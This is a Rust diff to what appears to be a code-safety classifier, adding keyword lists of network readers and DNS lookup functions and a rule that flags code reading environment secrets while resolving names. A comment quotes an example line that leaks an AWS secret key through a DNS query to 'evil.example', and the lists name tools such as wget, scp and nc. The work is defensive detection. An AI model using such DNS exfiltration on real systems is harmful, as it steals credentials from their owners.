@@ -420,6 +420,27 @@ const NETWORK: &[&str] = &[
     "wget",
     "scp",
     "nc ",
+    // Readers that take a URL (`pd.read_csv('https://…?k=' + …)`).
+    "read_csv(",
+    "read_json(",
+    "read_html(",
+];
+
+/// Name lookups: a secret put into the name leaves in the DNS query.
+const DNS_LOOKUPS: &[&str] = &[
+    "gethostbyname",
+    "getaddrinfo",
+    "dns.lookup",
+    "dns.resolve",
+    "dns.promises",
+    "dns.resolver",
+    "Resolv",
+    "net.LookupHost",
+    "net.LookupIP",
+    "Dns.GetHostEntry",
+    "Dns.GetHostAddresses",
+    "Resolve-DnsName",
+    "nslookup",
 ];
 
 /// The whole environment turned into data (it holds every token the process has).
@@ -450,6 +471,17 @@ pub(super) fn exfiltration(ctx: &mut Ctx, code: &str) {
                 .map(|d| format!("the environment ({d})"))
         });
     let secret = secret.or_else(|| secret_env_read(code));
+    // `socket.gethostbyname(os.environ['AWS_SECRET_ACCESS_KEY'] + '.evil.example')`.
+    if secret.is_none()
+        && DNS_LOOKUPS.iter().any(|d| code.contains(d))
+        && let Some(var) = crate::classify::content::catalogue::environment_in_code(code)
+    {
+        ctx.add(
+            Admin,
+            format!("code: reads `{var}` and looks up names (a secret can leave in a DNS query)"),
+        );
+        return;
+    }
     let Some(secret) = secret else {
         return;
     };
